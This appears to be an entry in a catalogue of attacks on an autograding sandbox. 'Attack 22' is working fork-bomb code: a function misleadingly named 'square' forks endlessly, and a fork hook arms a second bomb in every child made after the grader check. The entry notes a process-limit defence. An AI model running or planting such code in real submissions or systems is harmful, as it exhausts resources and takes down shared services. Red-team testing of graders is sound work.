# Attack 22: a fork bomb that goes off in a test, when everything but snapshots has been ended.
# Defence: the job's limit holds for snapshots as well.
# status: stopped crashed complete

# %%
def square(number):
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            pass


# %%
# And one at the fork of each snapshot.
def bomb():
    while True:
        try:
            os.fork()
        except OSError:
            pass


bombs = []
os.register_at_fork(after_in_child=lambda: bombs and bomb())
grader.check("q2")
bombs.append(1)
